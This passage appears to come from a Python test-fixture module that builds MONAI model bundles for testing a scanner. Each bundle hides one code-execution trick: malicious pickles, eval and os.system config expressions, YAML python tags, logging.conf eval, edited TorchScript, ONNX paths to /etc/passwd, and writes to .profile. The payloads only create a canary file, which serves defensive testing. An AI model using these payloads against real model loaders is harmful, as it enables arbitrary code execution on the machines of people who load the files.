"""Bundles that would write a canary file if any of their payloads ran, one trick each."""

# ruff: noqa: E501 -- a trick a line

from __future__ import annotations

import io
import json
import pickle
import pickletools
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import numpy as np
import torch

Files = Mapping[str, bytes | str]
BENIGN = {"network_def": {"_target_": "UNet", "spatial_dims": 2}, "run": ["$@network_def.eval()"]}


def write(root: Path, files: Files) -> Path:
    """Write a bundle of these files, with a harmless config beside them."""
    everything = {"configs/inference.json": json.dumps(BENIGN), **files}
    for name, content in everything.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    return root


def zipped(files: Files, **attributes: int) -> bytes:
    """A zip of these files."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = attributes.get("mode", 0o100644) << 16
            archive.writestr(entry, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def archive(data: bytes, **more: bytes) -> bytes:
    """A PyTorch archive around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        target.writestr("archive/data.pkl", data)
        target.writestr("archive/version", "3\n")
        for name, content in more.items():
            target.writestr(f"archive/{name}", content)
    return buffer.getvalue()


class Calls:
    """Pickles as a call of a function."""

    def __init__(self, function: Callable[..., object], *arguments: object):
        self.call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.call


def expressions(touch: str) -> dict[str, object]:
    """Single values of a config: name of the trick and value. ``touch`` is Python code that writes the canary."""
    command = f"touch {touch.split(chr(39))[1]}"
    run = f"__import__('os').system('{command}')"
    return {
        "eval": f'$eval("{touch}")',
        "open": f"${touch}",
        "dunder import": f"${run}",
        "in a list": [1, [2, {"deep": [f"${run}"]}]],
        "requires": {"_target_": "UNet", "_requires_": [f"${run}"]},
        "disabled": {"_target_": "UNet", "_disabled_": f"${run}"},
        "import": ["$import os", f"$os.system('{command}')"],
        "import as a known name": ["$import os as np", f"$np.system('{command}')"],
        "import from": ["$from os import system as sigmoid", f"$sigmoid('{command}')"],
        "import from a known package": ["$from torch.serialization import os as o", f"$o.system('{command}')"],
        "import star": "$from os import *",
        "lambda default": f"$lambda x, y={run}: x",
        "lambda body": {"_target_": "Lambda", "func": f"$lambda x: {run}"},
        "walrus": f"$(f := __import__)('os').system('{command}')",
        "walrus over a known name": "$(len := torch) and len",
        "comprehension": f"$[f('{command}') for f in [__import__('os').system]]",
        "shadowed in one half": "$[eval for x in [1]] + [0 for eval in [0]]",
        "f-string": "$f\"{__import__('os').system('" + command + "')}\"",
        "looked up by a computed name": "$monai.transforms.LoadImage('ev' + 'al', True, None, False, False, None, '.', True, 'x')",
        "looked up by a reference": {"n": "eval", "x": "$monai.transforms.LoadImage(reader=@value::n)"},
        "looked up by unpacking": "$monai.transforms.LoadImage(**{'reader': 'ev' + 'al'})",
        "looked up by a data set": "$monai.data.ImageDataset(['a.nii'], None, None, None, None, None, True, False, None, 'o' + 's.system', False, False, None, '.', True, 'x')",
        "address by position": "$torch.distributed.init_process_group('gloo', 'tcp://h:1')",
        "address by unpacking": "$torch.distributed.init_process_group(*['gloo', 'tcp://h:1'])",
        "address by a function that is handed on": "$(lambda f: f('gloo', 'tcp:' + '//h:1'))(torch.distributed.init_process_group)",
        "address by a name of its own": [
            "$from torch.distributed import init_process_group as f",
            "$f('gloo', 'tcp:' + '//h:1')",
        ],
        "looked up by position": "$monai.transforms.LoadImage('exec', True, None, False, False, None, '.', True, 'x')",
        "looked up by position, dotted": "$monai.transforms.LoadImage('webbrowser.open', True, None, False, False, None, '.', True, 'x')",
        "built-ins bound by a walrus": "$__builtins__['open']('x', 'w') if 1 else (__builtins__ := 0)",
        "sys under another id": {
            "libs": ["$import torch"],
            "+libs": ["$import sys"],
            "x": "$@value::libs::1.modules['os']",
        },
        "sys by a loose macro": {"libs": ["$import sys"], "m": "% value::libs", "x": "$@value::m::0.modules['os']"},
        "sys by a negative index": {"libs": ["$import sys"], "m": "%value::libs::-1", "x": "$@value::m.modules['os']"},
        "os by its own name": ["$import os", f"$os.path.genericpath.os.system('{command}')"],
        "os as a value": ["$import os", "$(lambda o=os: o)().remove('x')"],
        "operator looks up": ["$import operator", "$operator.attrgetter('a.b')(torch)"],
        "target that is a package": {"_target_": "PIL"},
        "wraps copies what a text names": [
            "$import functools",
            "$functools.wraps(monai.data.list_data_collate, assigned=['_' * 2])(@x)",
        ],
        "wraps by position": ["$from functools import wraps", "$wraps(monai.data.list_data_collate, ['_' * 2])(@x)"],
        "wraps by unpacking": ["$import functools", "$functools.wraps(*[monai.data.list_data_collate, ['_' * 2]])(@x)"],
        "wraps as a value": [
            "$import functools",
            "$functools.partial(functools.wraps, monai.data.list_data_collate)(['_' * 2])",
        ],
        "wraps as a target": {"_target_": "functools.wraps", "wrapped": "$monai.data.list_data_collate"},
        "statistics of what a text names": "$monai.engines.Workflow.get_stats(@x, '_' * 2 + 'class')",
        "state of what a text names": "$@engine.state_dict_user_keys.append('_' * 2 + 'class')",
        "module replaced by a computed name": "$monai.networks.utils.replace_modules(@net, '_' * 2 + 'class', 1)",
        "constants of what a text names": [
            "$from collections.abc import Callable",
            "$monai.networks.utils.simple_replace(Callable, lambda *a: a)(@f)",
        ],
        "attribute of what a network is": "$@detector.get_attribute_from_network('_' * 2 + 'globals')",
        "text that a timer runs": "$torch.utils.benchmark.Timer('x').timeit(1)",
        "text that a table runs": ["$import pandas", "$pandas.eval('x')"],
        "text that an image runs": ["$from PIL import ImageMath", "$ImageMath.unsafe_eval('x')"],
        "module by a negative index": {"libs": ["$import torch"], "m": "%value::libs::-1", "x": "$@value::m.nn"},
        "module by a macro with spaces": {"libs": ["$import torch"], "m": "%value :: libs", "x": "$@value::m::0.nn"},
        "module by another digit": {"libs": ["$import torch"], "m": "%value::libs::\u0660", "x": "$@value::m.nn"},
        "module by a relative macro": {"libs": ["$import torch"], "m": "%#libs", "x": "$@value::m::0.nn"},
        "module in a list that grows": {"libs": [1], "+libs": ["$import torch"], "x": "$@value::libs::1.nn"},
        "module set by an odd index": {"libs": [1], "libs::+0": "$import torch", "x": "$@value::libs::0.nn"},
        "sys inside another module": {"libs": ["$import warnings"], "x": "$@value::libs::0.sys.modules['os']"},
        "numpy runs tests": "$np.linalg.test('full', 1, ['--doctest-glob=*.md'])",
        "writes by storage": "$torch.ByteStorage.from_file('out.txt', True, 3)",
        "log of a later name": {
            "h": {"_target_": "LogfileHandler", "_mode_": "callable"},
            "x": "$@value::h('.', 'torch.' + 'py')",
        },
        "pickles later": {"_target_": "NumpyReader", "_mode_": "callable"},
        "address later": {"_target_": "torch.distributed.init_process_group", "_mode_": "callable"},
        "looked up later": {"_target_": "LoadImage", "_mode_": "callable"},
        "type of a class that looks up": "$type(@value)('ev' + 'al')",
        "more than an import": "$import torch; torch.x",
        "f-string in its format": "$f\"{1:{__import__('os').system('" + command + "')}}\"",
        "getattr of joined text": f"$getattr(torch, 'o' + 's').system('{command}')",
        "getattr of a plain name": f"$getattr(torch.serialization, 'os').system('{command}')",
        "subclasses": "$().__class__.__base__.__subclasses__()",
        "format reaches attributes": "$'{0.__class__}'.format(torch)",
        "format of joined text": "$('{0.__cla' + 'ss__}').format(torch)",
        "frame of a generator": "$(x for x in ()).gi_frame.f_back.f_globals",
        "globals": "$globals()['__builtins__']",
        "vars": f"$vars(torch)['os'].system('{command}')",
        "module inside a module": f"$torch.serialization.os.system('{command}')",
        "module inside MONAI": f"$monai.data.utils.os.system('{command}')",
        "optional_import": f"$monai.utils.optional_import('os')[0].system('{command}')",
        "functools": ["$import functools", f"$functools.reduce(getattr, ['system'], __import__('os'))('{command}')"],
        "operator": ["$import operator", "$operator.attrgetter('os.system')(torch)"],
        "look-alike letters": f"$ｅval('{run}')",
        "look-alike in an f-string": "${f\"{𝘦xec('x')}\"}",
        "module as a value": "$[torch][0].hub.load('a/b', 'c')",
        "module passed to a lambda": "$(lambda m: m.serialization)(torch)",
        "torch.load": "$torch.load('models/model.pt')",
        "torch.load computed": "$torch.load('models/model.pt', weights_only=not True)",
        "torch.hub": "$torch.hub.load('someone/repository', 'model')",
        "numpy pickle": "$np.load('x.npy', allow_pickle=True)",
        "set a function": "$setattr(torch, 'load', print)",
        "sys by reference": {"imports": ["$import sys"], "x": "$@value#imports#0.modules['os']"},
        "sys by chained reference": {"imports": ["$import sys"], "x": "@value#imports#0", "y": "$@value::x.modules"},
        "sys by the whole list": {"imports": ["$import sys"], "x": "$@value::imports[0].modules"},
        "sys by macro": {"imports": ["$import sys"], "m": "%value::imports", "x": "$@value::m::0.modules['os']"},
        "references by name": "$__local_refs",
        "comment that is none": f"$[1, 2, 3][1 #{run}\n]",
        "quote that a reference ends": {"f": 1, "x": "$'@f {" + run.replace("'", '"') + "} @f'"},
        "target eval": {"_target_": "builtins.eval", "source": run},
        "target bare eval": {"_target_": "eval"},
        "target os": {"_target_": "os.system", "command": command},
        "target callable": {"_target_": "os.system", "_mode_": "callable", "command": command},
        "target debug": {"_target_": "UNet", "_mode_": "debug"},
        "target partial": {"_target_": "functools.partial", "func": "$eval"},
        "target attrgetter": {"_target_": "operator.attrgetter"},
        "target optional_import": {"_target_": "monai.utils.optional_import", "module": "os"},
        "target bare run_cmd": {"_target_": "run_cmd", "cmd_list": ["touch"]},
        "target parser": {"_target_": "monai.bundle.ConfigParser", "config": {}},
        "target torch.load": {"_target_": "torch.load", "f": "models/model.pt"},
        "target numpy.load": {"_target_": "numpy.load", "file": "x.npy", "allow_pickle": True},
        "target inside torch": {"_target_": "torch.serialization.os.system", "command": command},
        "target by reference": {"name": "os.system", "x": {"_target_": "@value::name", "command": command}},
        "target computed": {"_target_": "$'os.' + 'system'", "command": command},
        "target by macro": {"name": "os.system", "x": {"_target_": "%value::name", "command": command}},
        "target of an attribute": {"x": {"_target_": "Dataset", "data": "os"}, "y": {"_target_": "$@value::x.data"}},
        "target with look-alikes": {"_target_": "ｏs.system", "command": command},
        "target writes a file": {"_target_": "lgg_monai.files.write_text", "path": "x", "text": "y"},
        "target of this package's imports": {"_target_": "lgg_monai.files.os.system", "command": command},
        "reader": {"_target_": "LoadImaged", "keys": "image", "reader": "os.system", "command": command},
        "writer": {"_target_": "SaveImaged", "keys": "pred", "writer": "subprocess.run"},
        "key that sets a target": {"a": {}, "a::_target_": "os.system"},
        "mode by a key": {"x": {"_target_": "LoadImage"}, "x::_mode_": "callable"},
        "mode by merging": {"+x": {"_mode_": "callable"}, "y": 1},
        "target by an index that moves": {
            "a": ["UNet"],
            "a::-1": "open",
            "x": {"_target_": "@value::a::0", "file": "torch.py", "mode": "w"},
        },
        "target that is a compiled module": {"_target_": "numpy.random.mtrand"},
        "compiled module as a value": "$np.random.mtrand",
        "address of a target": {"_target_": "torch.distributed.init_process_group", "init_method": "$'tcp' + '://h:1'"},
        "target that is a module": {"_target_": "monai.transforms"},
        "weights_only off": {"_target_": "PersistentDataset", "weights_only": False},
        "debugger": {"_target_": "UNet", "_debug_": True},
        "macro outside": "%/tmp/other.json::x",
        "macro above": "%../other.yaml::x",
        "macro to nowhere": "%configs/elsewhere.json::x",
        "key that becomes code": {"f, " + run: {"x": "$[0][@#b]", "b": 1}},
        "string method on joined text": f"$str.join('', ['a']).__class__.mro()[1].__subclasses__() or '{command}'",
        "starred call": f"$print(*map(__import__('os').system, ['{command}']))",
        "nested lambda": f"$(lambda: (lambda: __import__('os'))())().system('{command}')",
        "type with bases": "$type('X', (object,), {'__add__': lambda a, b: a})",
        "logs a module": {
            "_target_": "LogfileHandler",
            "output_dir": ".",
            "filename": "torch.py",
            "formatter": "$'%(message)s'",
        },
        "logs a module by another key": {
            "x": {"_target_": "LogfileHandler", "output_dir": "."},
            "x::filename": ".profile",
        },
        "mapping that is a profile": {"_target_": "WriteFileMapping", "mapping_file_path": ".profile"},
        "enumeration written into a module": [
            "$import enum",
            "$enum.global_enum(enum.Enum('X', {'load': 1}, module='torch'))",
        ],
        "checkpoint that is a module": {"_target_": "CheckpointSaver", "save_dir": ".", "final_filename": "torch.py"},
        "pickles by unpacked arguments": "$monai.data.NumpyReader(**{'allow_pickle': True})",
        "pickles by position": "$monai.data.NumpyReader(None, None, True)",
        "pickles by position from a cache": "$monai.data.PersistentDataset([1], None, 'c', monai.data.pickle_hashing, 'pickle', 2, None, True, True, False)",
        "path moves a file": "$@dataset.cache_dir.parent.replace('elsewhere')",
        "folder emptied": {
            "d": {"_target_": "PersistentDataset", "cache_dir": "@data"},
            "x": "$@value::d.set_data([])",
        },
        "list written over a config": {"_target_": "create_cross_validation_datalist", "filename": "inference.json"},
        "log written over a config": {
            "_target_": "LogfileHandler",
            "output_dir": "configs",
            "filename": "inference.json",
        },
        "not parsable": "$f'{x['y']}' if",
        "nested too deeply": "$" + "-" * 1500 + "1",
        "too long": "$" + "+".join(["1"] * 5000),
        "unknown package": "$import some_package_of_mine",
        "init from an address": [
            "$import torch.distributed as dist",
            "$dist.init_process_group('gloo', init_method='tcp://h:1')",
        ],
    }


def other_files(touch: str) -> dict[str, Files]:
    """Tricks in files other than a JSON config: name and files."""
    canary = touch.split(chr(39))[1]
    command = f"touch {canary}"
    run = f"import os\nos.system('{command}')\n"
    call = Calls(__import__("os").system, command)
    nested = pickle.dumps({"a": [(1, {"b": call})]})
    computed = (
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x30\x30h\x00h\x01\x93\x8c"
        + bytes([len(command)])
        + command.encode()
        + b"\x85R."
    )
    late = b"\x80\x04\x8c\x02o\x94\x8c\x01s\x94\x8c\x06system\x94(\x93."
    zeros = io.BytesIO()
    torch.save({"a": torch.zeros(2)}, zeros, _use_new_zipfile_serialization=False)
    script = torch.jit.script(torch.nn.ReLU())
    scripted = io.BytesIO()
    torch.jit.save(script, scripted)
    return {
        "yaml tag": {"configs/a.yaml": f"x: !!python/object/apply:os.system ['{command}']\n"},
        "yaml tag on a scalar": {"configs/a.yaml": "x: !!python/name:os.system ''\n"},
        "yaml merge": {"configs/a.yaml": f"a: &a\n  _target_: os.system\n  command: {command}\nb:\n  <<: *a\n"},
        "yaml merge of a module": {"configs/a.yaml": "a: &a {m: $import torch}\nb: {<<: [*a]}\nx: $@b::m.nn\n"},
        "yaml tag on a key": {"configs/a.yaml": "!!python/name:os.system '': 1\n"},
        "mode in another file": {"configs/a.json": json.dumps({"x": {"_target_": "LoadImage"}}), "configs/b.json": json.dumps({"x::_mode_": "callable"})},
        "target in another file": {"configs/a.json": json.dumps({"x": {"_target_": "UNet", "_mode_": "callable"}}), "configs/b.json": json.dumps({"+x": {"_target_": "LoadImage"}})},
        "target in the metadata": {"configs/a.json": json.dumps({"_meta_": {"t": "UNet"}, "x": {"_target_": "@_meta_::t", "file": "torch.py", "mode": "w"}}), "configs/metadata.json": json.dumps({"t": "open"})},
        "module in the metadata": {"configs/a.json": json.dumps({"x": "$@_meta_::t.nn"}), "configs/metadata.json": json.dumps({"t": "$import torch"})},
        "target in a shared list": {"configs/a.yaml": "a: &l [UNet]\nb: *l\nx: {_target_: '@b::0', file: torch.py, mode: w}\n'a::0': open\n"},
        "target in a merged map": {"configs/a.yaml": "a: &l {t: {n: UNet}}\nb: {<<: *l}\nx: {_target_: '@b::t::n'}\n'a::t::n': open\n"},
        "target by an old name": {"configs/a.json": json.dumps({"required_packages_version": {"t": "UNet"}, "optional_packages_version": {"t": "open"}, "x": {"_target_": "@required_packages_version::t", "file": "torch.py", "mode": "w"}})},
        "config without a name": {"configs/.json": json.dumps({"x": "$eval('1')"})},
        "relative in a copy": {"configs/a.json": json.dumps({"box": {"m": "%configs/b.json::t", "libs": "$import torch"}}), "configs/b.json": json.dumps({"libs": 1, "t": "$@::libs.nn"})},
        "macro of a whole file": {"configs/a.json": json.dumps({"l": ["$import torch"]}), "configs/b.json": json.dumps({"m": "%configs/a.json", "x": "$@m::l::0.nn"})},
        "yaml alias bomb": {"configs/a.yml": "a: &a [x, x]\n" + "".join(f"{n}: &{n} [*{p}, *{p}, *{p}, *{p}]\n" for p, n in zip("abcdefghijkl", "bcdefghijklm", strict=True))},
        "yaml alias of itself": {"configs/a.yaml": "a: &a [*a]\n"},
        "yaml folded": {"configs/a.yaml": f"x: >-\n  $__import__('os')\n  .system('{command}')\n"},
        "yaml escape": {"configs/a.yaml": f'x: "\\x24__import__(\'os\').system(\'{command}\')"\n'},
        "json escape": {"configs/a.json": '{"x": "\\u0024\\u005f_import__(\'os\').system(\'' + command + "')\"}"},
        "duplicate key": {"configs/a.json": '{"x": 1, "x": "$__import__(\'os\')"}'},
        "suffix in capitals": {"configs/a.JSON": json.dumps({"_target_": "os.system"})},
        "config elsewhere": {"docs/notes.yaml": "x: $import subprocess\n"},
        "metadata": {"configs/metadata.json": json.dumps({"version": "$__import__('os')"})},
        "metadata shape": {"configs/metadata.json": json.dumps({"spatial_shape": ["__import__('os').system('x')", "16*n"]})},
        "metadata shape without end": {"configs/metadata.json": json.dumps({"spatial_shape": ["9**9**9"]})},
        "metadata shape too large": {"configs/metadata.json": json.dumps({"spatial_shape": ["9**999999"]})},
        "logging args": {"configs/logging.conf": f"[handler_x]\nclass=StreamHandler\nargs=(__import__('os').system('{command}'),)\n"},
        "logging class": {"configs/logging.conf": f"[handler_x]\nclass=__import__('os').system('{command}')\nargs=()\n"},
        "logging eval": {"configs/logging.conf": f"[handler_x]\nclass=eval\nargs=('{touch}',)\n".replace("'" + canary + "'", canary)},
        "logging to a file": {"configs/logging.conf": "[handler_x]\nclass=FileHandler\nargs=('/home/me/.profile', 'a')\n"},
        "logging to a module": {"configs/logging.conf": "[handler_x]\nclass=FileHandler\nargs=('torch.py', 'a')\n"},
        "logging to a module in bytes": {"configs/logging.conf": "[handler_x]\nclass=FileHandler\nargs=(b'torch.py', 'a')\n"},
        "logging to a config": {"configs/logging.conf": "[handler_x]\nclass=FileHandler\nargs=('configs/train.yaml', 'w')\n"},
        "logging to the network": {"configs/logging.conf": "[handler_x]\nclass=handlers.SocketHandler\nargs=('h', 1)\n"},
        "logging defaults": {"configs/logging.conf": f"[formatter_x]\ndefaults=__import__('os').system('{command}')\n"},
        "logging interpolation": {"configs/logging.conf": "[DEFAULT]\nargs=(__import__('os'),)\n[handler_x]\nclass=StreamHandler\n"},
        "logging interpolation of options": {"configs/logging.conf": f"[handler_x]\nclass=StreamHandler\nargs=('%(x)s',)\nx=' if {touch.replace(chr(39), chr(34))} else '\n"},
        "script binds built-ins": {"scripts/net.py": "def f():\n    __builtins__ = 0\n\n__builtins__['open']('x', 'w')\n"},
        "script defines a frame's names": {"scripts/net.py": "class Box:\n    gi_frame = f_builtins = 0\n    def frame(self): return self.gi_frame\n    def names(self): return self.f_builtins\ndef g(): yield\nBox.names(Box.frame(g()))['exec']('1')\n"},
        "frame of a script's generator": {"scripts/net.py": "g = (x for x in ())\n", "configs/a.json": json.dumps(["$import scripts.net as net", "$net.g.gi_frame.f_builtins['exec']('1')"])},
        "target in a script's generator": {"scripts/net.py": "g = (x for x in ())\n", "configs/a.json": json.dumps({"_target_": "scripts.net.g.gi_frame.f_builtins.exec"})},
        "target in a module that a class holds": {"scripts/net.py": "import torch\nclass Net:\n    m = torch\n", "configs/a.json": json.dumps({"_target_": "scripts.net.Net.m.serialization.os.system"})},
        "script calls itself with a module": {"scripts/net.py": "import random\nclass Net:\n    def f(self): self._os.remove('x')\nNet.f(random)\n"},
        "script whose class holds a module": {"scripts/net.py": "class Net:\n    if True:\n        import os as o\nNet.o.remove('x')\n"},
        "script that gets a module by a star": {"scripts/net.py": "from .other import *\no.remove('x')\n", "scripts/other.py": "from .third import *\n", "scripts/third.py": "import os as o\n"},
        "script handed on with what it holds": {"scripts/net.py": "from . import other\ndef f(self): self.o.remove('x')\nf(other)\n", "scripts/other.py": "import os as o\n"},
        "script that takes a module's module": {"scripts/net.py": "import random\ndef f(m): m._os.remove('x')\nf(random)\n"},
        "script matches by names": {"scripts/net.py": "class Any(type):\n    def __instancecheck__(cls, one): return True\nclass Frame(metaclass=Any):\n    __match_args__ = ('gi_frame',)\n"},
        "script calls a type": {"scripts/net.py": "def f(x):\n    return type(x)('canary', 'w')\n"},
        "script looks up by position": {"scripts/net.py": "import monai\nmonai.transforms.LoadImage('exec', True, None, False, False, None, '.', True, 'x')\n"},
        "script runs a command": {"scripts/__init__.py": run},
        "script exec": {"scripts/net.py": f'exec("{run!r}")\n'},
        "script open": {"scripts/net.py": touch + "\n"},
        "script in a method": {"scripts/net.py": f"class Net:\n    def __init__(self):\n        __import__('os').system('{command}')\n"},
        "script in a decorator": {"scripts/net.py": f"import subprocess\n\n@subprocess.run\ndef f():\n    '{command}'\n"},
        "script through torch": {"scripts/net.py": f"import torch\ntorch.serialization.os.system('{command}')\n"},
        "script renames a module": {"scripts/net.py": f"import torch as t\nm = t\nm.serialization.os.system('{command}')\n"},
        "script patches torch": {"scripts/net.py": "import torch\ntorch.load = print\n"},
        "script keeps a class": {"scripts/net.py": "import sys\nfile = type(sys.stdout.detach().detach())\nfile('canary', 'w')\n"},
        "script maps to classes": {"scripts/net.py": "import sys\nlist(map(type, [sys.stdout.detach()]))[0]('canary', 'w')\n"},
        "script is handed a class": {"scripts/net.py": "class A:\n    def __eq__(self, other): return other('canary', 'w')\ndef f(x): return A() == type(x)\n"},
        "script shows a class to another's function": {"scripts/net.py": "from .other import g as print\nprint(type(1))('canary', 'w')\n", "scripts/other.py": "def g(x): return x\n"},
        "script derives from a class": {"scripts/net.py": "import sys\nclass File(type(sys.stdout.detach().detach())): pass\nFile('canary', 'w')\n"},
        "script annotates by a class": {"scripts/net.py": "def g(x): x('canary', 'w')\ndef f(x):\n    class A:\n        a: g(type(x)) = 0\n"},
        "script indexes its own by what finds classes": {"scripts/net.py": "class G:\n    def __getitem__(self, of): of(self.x)('canary', 'w')\ng = G()\na: g[type] = 0\n"},
        "script shows a class to itself": {"scripts/net.py": "def print(x): return x\ndef f(x): return print(type(x))('canary', 'w')\n"},
        "script annotation": {"scripts/net.py": f"class A:\n    x: \"__import__('os').system('{command}')\"\n"},
        "script encoding": {"scripts/net.py": b"# -*- coding: utf-7 -*-\n# +AAo-import os\n"},
        "script unpickles": {"scripts/net.py": "import torch\n\ndef f(p):\n    return torch.load(p, weights_only=False)\n"},
        "script imports a copy that writes": {"scripts/net.py": "from lgg_monai.files import write_text\n"},
        "script match": {"scripts/net.py": "import torch\nmatch torch:\n    case object(serialization=object(os=object(system=f))):\n        f('x')\n"},
        "script exception": {"scripts/net.py": "import torch\ntry:\n    torch.x\nexcept AttributeError as e:\n    e.obj.serialization.os.system('x')\n"},
        "script imports built-ins": {"scripts/net.py": "import builtins\n"},
        "script hides a built-in": {"scripts/net.py": "def f():\n    for __import__ in []:\n        pass\n\n__import__('os')\n"},
        "script looks up by text": {"scripts/net.py": "def f(x, y):\n    return getattr(x, y)\n"},
        "optional import of a module": {"scripts/net.py": f"from monai.utils import optional_import\no, _ = optional_import('os')\no.system('{command}')\n"},
        "optional import of a function": {"scripts/net.py": f"from monai.utils import optional_import\nf, _ = optional_import('os', name='system')\nf('{command}')\n"},
        "optional import of a computed name": {"scripts/net.py": "from monai.utils import optional_import\no, _ = optional_import('o' + 's')\n"},
        "optional import by another name": {"scripts/net.py": "from monai.utils import optional_import as f\no, _ = f('os')\n"},
        "optional import that is another": {"scripts/net.py": "from monai.utils import optional_import\nfrom .other import *\no, _ = optional_import('math')\n", "scripts/other.py": ""},
        "optional import that sets another module": {"scripts/net.py": "import torch\nfrom monai.utils import optional_import\no, torch.load = optional_import('math')\n"},
        "script star import": {"scripts/net.py": "from torch import *\n"},
        "script look-alike": {"scripts/net.py": "ｅxec('x')\n"},
        "script nested too deeply": {"scripts/net.py": "x = " + "+".join(["1"] * 1500) + "\n"},
        "annotation nested too deeply": {"scripts/net.py": "x: \"" + "-" * 1500 + "1\"\n"},
        "logging nested too deeply": {"configs/logging.conf": "[handler_x]\nclass=StreamHandler\nargs=(" + "-" * 1500 + "1,)\n"},
        "script that does not parse": {"scripts/net.py": "def f(:\n"},
        "script shadows a package": {"numpy/__init__.py": "x = 1\n"},
        "script that Python starts with": {"sitecustomize.py": "x = 1\n"},
        "script shadows the library": {"random.py": "x = 1\n"},
        "compiled script": {"scripts/net.pyc": b"\xa7\r\r\n" + b"\0" * 12},
        "cached script": {"scripts/__pycache__/net.cpython-311.pyc": b"\xa7\r\r\n" + b"\0" * 12},
        "library": {"scripts/net.so": b"\x7fELF"},
        "program by content": {"docs/README.md": "#!/bin/sh\n"},
        "git hooks": {".git/config": "[core]\nfsmonitor = x\n"},
        "git hooks in capitals": {".GIT/config": "[core]\nfsmonitor = x\n"},
        "pickle": {"models/model.pt": pickle.dumps(call)},
        "pickle protocol 0": {"models/model.pt": pickle.dumps(call, 0)},
        "pickle protocol 4": {"models/model.pt": pickle.dumps(call, 4)},
        "pickle nested": {"models/model.pt": archive(nested)},
        "pickle by memo": {"models/model.pt": archive(computed)},
        "pickle computed": {"models/model.pt": archive(late)},
        "pickle in the old format": {"models/model.pt": zeros.getvalue().replace(b"ctorch._utils\n_rebuild_tensor_v2\n", b"cos\nsystem\n")},
        "pickle in front of the old format": {"models/model.pt": pickle.dumps(call, 2) + zeros.getvalue()},
        "pickle that breaks off": {"models/model.pt": pickle.dumps(call, 2)[:-1]},
        "pickle of eval": {"models/model.pt": archive(b"cbuiltins\neval\n(S'1'\ntR.")},
        "pickle INST": {"models/model.pt": archive(f"(S'{command}'\nios\nsystem\n.".encode())},
        "pickle extension": {"models/model.pt": archive(b"\x80\x02\x82\x01.")},
        "pickle beside the data": {"models/model.pt": archive(pickle.dumps({}), **{"more.pkl": nested})},
        "pickle named as text": {"docs/notes.txt": pickle.dumps(call, 0)},
        "pickle with another name": {"docs/data.xyz": pickle.dumps(call, 4)},
        "pickle named as an image": {"docs/a.nii": pickle.dumps(call, 0)},
        "objects of NumPy": {"docs/a.npy": _objects(call)},
        "objects of NumPy named as an image": {"docs/a.nii": _objects(call)},
        "pickle getattr": {"models/model.pt": archive(b"\x80\x02cbuiltins\ngetattr\nctorch\nhub\nX\x04\x00\x00\x00load\x86R.")},
        "pickle optimised": {"models/model.pt": archive(pickletools.optimize(pickle.dumps(call, 4)))},
        "two data.pkl": {"models/model.pt": _twice(pickle.dumps({}), pickle.dumps(call))},
        "two roots": {"models/model.pt": zipped({"a/data.pkl": pickle.dumps(call), "b/data.pkl": pickle.dumps({})})},
        "pickle and zip": {"models/model.pt": pickle.dumps({}) + zipped({"x": b""})},
        "torchscript saves": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "torch.save(")},
        "torchscript saves by another name": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "ops.aten.save(")},
        "torchscript saves with a blank": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "torch .save(")},
        "torchscript saves over two lines": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "torch.\\\n    save(")},
        "torchscript writes by torchvision": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "ops.image.write_file(")},
        "torchscript writes by torchvision over two lines": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "ops.\\\n    image.write_file(")},
        "torchscript saves behind a comment": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "torch. # c\n save(")},
        "torchscript saves by another variable": {"models/model.ts": _edited(scripted.getvalue(), "  if inplace", "  t = torch\n  _9 = t.save(input, 'x')\n  if inplace")},
        "torchscript saves by another variable of operators": {"models/model.ts": _edited(scripted.getvalue(), "  if inplace", "  t = ops.aten\n  _9 = t.save(input, \"x\")\n  if inplace")},
        "torchscript saves by a text": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "getattr(torch, \"s\\141ve\")(")},
        "torchscript saves in brackets": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "(torch).save(")},
        "torchscript saves behind a text": {"models/model.ts": _edited(scripted.getvalue(), "torch.relu(", "(\"\"\"\"#\"\"\"\", torch). save(")},
        "torchscript in capitals": {"models/model.ts": _renamed(_edited(scripted.getvalue(), "torch.relu(", "torch.save("), "code/__torch__/torch/nn/functional.py", "CODE/__torch__/torch/nn/functional.py")},
        "torchscript in the oldest format": {"models/model.ts": _edited(scripted.getvalue(), "", "", {"archive/model.json": "{}"})},
        "torchscript holds a config": {"models/model.ts": _edited(scripted.getvalue(), "", "", {"archive/extra/inference.json": json.dumps({"x": f"${touch}"})})},
        "macro that is too long": {"configs/a.json": json.dumps({"x": "%" + ".json" * 200})},
        "module in too many copies": {"configs/a.json": json.dumps({"i": {f"i{n}": "$import torch" for n in range(200)}, **{f"m{n}": "%i" for n in range(200)}, "x": "$@y.nn"})},
        "logging without end": {"configs/logging.conf": "".join(f"[handler_{n}]\nargs=(1,)\n" for n in range(5000))},
        "zip behind safetensors": {"models/model.safetensors": struct.pack("<Q", 8) + b"{}      " + scripted.getvalue()},
        "oldest format": {"models/model.pt": b"\x80\x02}.".ljust(257, b"\0") + b"ustar".ljust(255, b"\0")},
        "torchscript pickle": {"models/model.ts": _edited(scripted.getvalue(), "", "", {"archive/data.pkl": pickle.dumps(call)})},
        "onnx outside": {"models/model.onnx": _onnx("../../../etc/passwd")},
        "onnx absolute": {"models/model.onnx": _onnx("/etc/passwd")},
        "onnx missing": {"models/model.onnx": _onnx("weights.bin")},
        "onnx compiled for a device": {"models/model.onnx": _onnx(operator="EPContext")},
        "onnx calls Python": {"models/model.onnx": _onnx(operator="PythonOp")},
        "not onnx": {"models/model.onnx": b"rubbish that is no model"},
